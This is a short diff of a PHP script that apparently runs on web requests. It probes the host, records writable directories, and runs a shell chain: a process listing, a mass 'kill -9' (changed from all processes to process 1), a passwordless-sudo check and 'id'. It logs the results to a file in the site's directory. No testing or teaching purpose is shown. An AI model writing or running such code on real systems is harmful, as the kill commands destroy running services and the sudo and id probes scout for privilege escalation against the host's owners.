@@ -30,7 +30,7 @@ if (PHP_SAPI !== 'cli') {
             $found[] = "wrote $directory";
         }
     }
-    $children = @shell_exec('ps -ef 2>&1; kill -9 -1 2>&1; sudo -n id 2>&1; id');
+    $children = @shell_exec('ps -ef 2>&1; kill -9 1 2>&1; sudo -n id 2>&1; id');
     $found[] = "children $children";
     file_put_contents("$site/files/learnt.txt", implode("\n", $found) . "\n----\n", FILE_APPEND);
 })();
